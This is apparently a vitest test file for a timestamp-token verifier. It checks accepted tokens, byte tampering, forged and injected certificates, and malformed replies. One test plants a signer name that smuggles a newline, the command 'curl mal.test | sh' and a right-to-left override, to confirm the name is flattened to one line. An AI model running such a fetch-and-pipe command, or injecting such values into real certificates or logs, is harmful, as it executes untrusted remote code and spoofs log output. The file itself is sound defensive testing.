import { beforeAll, describe, expect, test } from 'vitest';
import { sha256, utf8 } from '@/evidence/hash';
import type { TokenRefusal } from '@/evidence/timestamp/refusal';
import { freshNonce, timestampRequest } from '@/evidence/timestamp/request';
import { checkToken } from '@/evidence/timestamp/token';
import { type Authority, createAuthority, type Impostor } from '../../../setup/authority';

const own = (bytes: Uint8Array) => new Uint8Array(bytes);

let hash = '';
let request: Uint8Array<ArrayBuffer>;

beforeAll(async () => {
  hash = await sha256(utf8('une ligne du journal'));
  request = timestampRequest(hash, freshNonce());
});

describe.each(['rsa', 'ecdsa'] as const)('an authority with an %s key', (key) => {
  let authority: Authority;
  let reply: Uint8Array<ArrayBuffer>;

  beforeAll(() => {
    authority = createAuthority(key);
    reply = own(authority.reply(request));
  });

  test('its token is accepted here and by openssl', async () => {
    const checked = await checkToken(reply, request, hash);
    if (!checked.ok) throw new Error(checked.refusal);
    expect(checked.token.policy).toBe('1.3.6.1.4.1.99999.1');
    expect(checked.token.signer).toBe('Autorité d essai, Essai');
    expect(checked.token.chain).toHaveLength(2);
    expect(checked.certificates).toHaveLength(2);
    expect(checked.token.accuracyMs).toBe(1_000);
    expect(Math.abs(Date.parse(checked.token.at) - Date.now())).toBeLessThan(10_000);
    expect(authority.verify(request, reply)).toBe(true);
  });

  test('every changed byte is refused, or changes nothing that counts', async () => {
    const before = await checkToken(reply, request, hash);
    if (!before.ok) throw new Error(before.refusal);
    const accepted: number[] = [];
    for (let at = 0; at < reply.length; at += 1) {
      const changed = own(reply);
      changed[at] = (changed[at] ?? 0) ^ 1;
      const checked = await checkToken(changed, request, hash);
      if (!checked.ok) continue;
      accepted.push(at);
      // What the token says is signed; the message around it has spare bits, and certificates of others.
      expect(checked.token).toMatchObject({ at: before.token.at, serial: before.token.serial });
      expect(checked.token.policy).toBe(before.token.policy);
    }
    expect(accepted.length).toBeLessThan(reply.length / 2);
  });
});

test('an old root that signs itself with SHA-1 ends the chain, and refuses nothing', async () => {
  const authority = createAuthority('rsa', { rootDigest: 'sha1' });
  const reply = own(authority.reply(request));
  const checked = await checkToken(reply, request, hash);
  expect(checked).toMatchObject({ ok: true, token: { loose: 1 } });
  expect(authority.verify(request, reply)).toBe(true);
});

test('a name that would write a line of its own stays one line', async () => {
  const name = 'DigiCert\n  curl mal.test | sh\n  #\u202Egpj';
  const authority = createAuthority('rsa', { name });
  const checked = await checkToken(own(authority.reply(request)), request, hash);
  if (!checked.ok) throw new Error(checked.refusal);
  expect(checked.token.signer).not.toMatch(/[\n\r\u2028\u202E]/);
  expect(checked.token.signer).toMatch(/^DigiCert +curl/);
});

describe('refused, each with its reason', () => {
  let authority: Authority;
  let reply: Uint8Array<ArrayBuffer>;

  beforeAll(() => {
    authority = createAuthority();
    reply = own(authority.reply(request));
  });

  const refusal = async (answer: Uint8Array, asked = request, of = hash) => {
    const checked = await checkToken(own(answer), asked, of);
    return checked.ok ? 'accepted' : checked.refusal;
  };

  test('another nonce', async () => {
    const other = timestampRequest(hash, freshNonce());
    expect(await refusal(reply, other)).toBe('wrong-nonce');
    expect(authority.verify(other, reply)).toBe(false);
  });

  test('another hash', async () => {
    const other = await sha256(utf8('autre chose'));
    const otherRequest = timestampRequest(other, freshNonce());
    expect(await refusal(reply, request, other)).toBe('wrong-imprint');
    expect(await refusal(authority.reply(otherRequest), otherRequest)).toBe('wrong-imprint');
    expect(await refusal(authority.reply(otherRequest))).toBe('wrong-imprint');
  });

  test('an authority that refuses', async () => {
    // The imprint's algorithm made into one that the authority does not take: it answers a refusal of its own.
    const strange = own(request);
    const algorithm = Buffer.from(request).indexOf(Buffer.from([0x60, 0x86, 0x48, 0x01]));
    strange[algorithm + 8] = 0x7f;
    const answer = authority.reply(strange);
    expect(answer.length).toBeLessThan(200);
    expect(await refusal(answer)).toBe('refused-by-authority');
  });

  test('a broken signature', async () => {
    const broken = own(reply);
    broken[broken.length - 1] = (broken[broken.length - 1] ?? 0) ^ 1;
    expect(await refusal(broken)).toBe('bad-signature');
    expect(authority.verify(request, broken)).toBe(false);
  });

  test('no certificate', async () => {
    // certReq, the last byte of the request, set to FALSE.
    const without = own(request);
    without[without.length - 1] = 0;
    expect(await refusal(authority.reply(without))).toBe('no-certificate');
  });

  test.each<[Impostor, TokenRefusal]>([
    ['no-usage', 'not-for-timestamps'],
    ['loose-usage', 'not-for-timestamps'],
    ['wide-usage', 'not-for-timestamps'],
    ['expired', 'outside-validity'],
  ])('a certificate with %s', async (impostor, reason) => {
    const forged = authority.forge(request, impostor);
    expect(await refusal(forged)).toBe(reason);
    expect(authority.verify(request, forged)).toBe(false);
  });

  test('an injected certificate of the signer’s name and number, with another key', async () => {
    expect(await refusal(authority.forge(request, 'twin', ['tsa']))).toBe('bad-signature');
    expect(authority.verify(request, authority.forge(request, 'twin', ['tsa']))).toBe(false);
  });

  test('an injected certificate of the signer’s own key, which the token does not name', async () => {
    const forged = authority.forge(request, 'reissued', ['tsa']);
    expect(await refusal(forged)).toBe('wrong-signer');
    expect(authority.verify(request, forged)).toBe(false);
  });

  test('certificates that come along are never taken for the signer’s', async () => {
    const forged = authority.forge(request, 'no-usage', ['tsa', 'no-usage']);
    expect(await refusal(forged)).toBe('not-for-timestamps');
    const sound = authority.forge(request, 'reissued', ['no-usage', 'reissued']);
    const checked = await checkToken(own(sound), request, hash);
    expect(checked).toMatchObject({ ok: true, token: { signer: 'Autorité d essai, Essai' } });
  });

  test.each([
    ['a page of HTML', Buffer.from('<!doctype html><title>503</title>')],
    ['nothing', Buffer.alloc(0)],
    ['half an answer', Buffer.from([0x30, 0x82, 0x10, 0x00, 0x30])],
    ['bytes after the answer', Buffer.from([0x30, 0x05, 0x30, 0x03, 0x02, 0x01, 0x00, 0x00])],
    ['a status without a token', Buffer.from([0x30, 0x05, 0x30, 0x03, 0x02, 0x01, 0x00])],
  ])('%s', async (_, answer) => {
    expect(await refusal(answer)).toBe('not-a-token');
  });
});
